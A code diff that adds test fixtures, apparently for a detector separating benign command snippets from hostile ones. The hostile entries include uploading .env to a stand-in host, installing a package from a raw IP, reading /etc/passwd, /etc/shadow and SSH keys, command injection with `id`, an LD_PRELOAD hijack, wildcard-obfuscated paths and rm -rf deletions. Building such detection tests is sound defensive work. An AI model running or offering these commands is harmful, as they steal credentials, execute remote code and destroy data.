@@ -22,6 +22,97 @@ interface Pair {
 
 const pairs: readonly Pair[] = [
   {
+    decision: 'of its own folder’s settings only what sends them is asked, behind another argument',
+    honest: [
+      '$ dotenvx run -f .env.production -- node index.js',
+      'docker compose --env-file .env.local up',
+      'Encrypt them with `dotenvx encrypt -f .env` and include them safely.',
+    ],
+    hostile: [
+      'https://a.example/x -F f=@.env',
+      '-f .env',
+      'main -f /app/.env',
+      'main -f ../.env',
+      'main -T .env',
+    ],
+  },
+  {
+    decision: 'a span that is a whole value and a step of a build names packages and files of its folder',
+    honest: [
+      '`npm install postcss-x --save-dev`',
+      '`yarn add @a/b.js`',
+      '`node -r tsconfig-paths/register main.js`',
+      '`cargo test --manifest-path rust/a/Cargo.toml --all-targets` runs the tests',
+    ],
+    hostile: [
+      '`npm install http://203.0.113.9/x.tgz`',
+      '`npm i ../x && id`',
+      '`node -e process.exit`',
+      '`node --eval x/y`',
+      '`npx x /etc/passwd`',
+      '`cat src/x.js`',
+    ],
+  },
+  {
+    decision:
+      'between backticks no command begins with a capital, and the folder’s name leads to what is below it',
+    honest: [
+      'on("file", () => { console.log(`File [${name}]: ${type}`) })',
+      'console.log(`Link expires in ${info.expireIn} seconds`);',
+      '    export PATH=`pwd`/node_modules/.bin:$PATH',
+      '  - export CHROME_PATH="$(pwd)/chrome-linux/chrome"',
+    ],
+    hostile: ['(`file /etc/passwd`)', '(`Cat /etc/shadow`)', '$(pwd)', '`pwd`', '$(pwd;id)/x', '`pwd|sh`/x'],
+  },
+  {
+    decision: 'patterns hide a program in a folder of the system’s, and an application’s route has some, too',
+    honest: ['* optional wildcards (`/users/*?`)', '/movies/*?'],
+    hostile: ['/???/c?t /e??/p?ss?d', ';/bin/c?t /e*/p?sswd', ';/[t]mp/??', '`/usr/bin/w?oa??`'],
+  },
+  {
+    decision: 'a version behind a name is no argument, but where a host is asked',
+    honest: ['Safari 12-13, Node.js 4-14, & PhantomJS 2.1.1.', 'Edge 82, & Lynx 2.8'],
+    hostile: ['x & wget 10.1', 'x & ping 127.1', 'x & phantomjs a.js', 'x; lynx 10.0.0.1'],
+  },
+  {
+    decision: 'a declaration of a program’s is no export, and nothing that a shell reads',
+    honest: [
+      "T3<S extends string> = Uppercase<`aB${S}`>;\n\ttype T4 = T3<'xYz'>;  // 'ABXYZ'",
+      'export {foo} /* also comment} */;\nexport /* comment in export} */ {bar}\n`,\n);',
+      "export const loggerContext = createContext<Logger>('logger');\n```",
+      '  left = a > b ? c : left;\n    top = rect.bottom > parent.bottom ? top - rect.height : top;',
+    ],
+    hostile: [
+      'x; type a = C:\\windows\\win.ini',
+      'x; export A=`id`',
+      'x; export -p',
+      'x; export LD_PRELOAD=/tmp/x.so',
+      "cat a>('id')",
+      "a<b>('id')",
+    ],
+  },
+  {
+    decision: 'what a span reads below its folder is shown, and a sentence’s dots are no file’s',
+    honest: [
+      '  * For versions below 0.19 (use `cat ./node_modules/react/package.json | grep version`)',
+      'Add `gulp --completion=fish | source` to the file.',
+      'More documentation following...\n',
+      'Node v12.x renamed the parser, so that you must run `node --http-parser=legacy file.js` there.',
+    ],
+    hostile: [
+      'Please (use `cat ./.env | grep x`)',
+      'Please use `cat ./a/.ssh/x | grep y` now',
+      'Please use `cat /etc/passwd | grep root` now',
+      'cat ./a/b.json | sh',
+      'more /etc/passwd',
+    ],
+  },
+  {
+    decision: 'of folders that a step deletes only what a build has made is a step’s',
+    honest: ['"postversion": "git push && git push --tags && rm -rf build/temp"'],
+    hostile: ['git push && rm -rf /srv/app', 'git push; rm -rf *', 'git push && rm -rf ../build'],
+  },
+  {
     decision:
       'a value that begins with an option is one by a command line, code or settings that it is given',
     honest: [
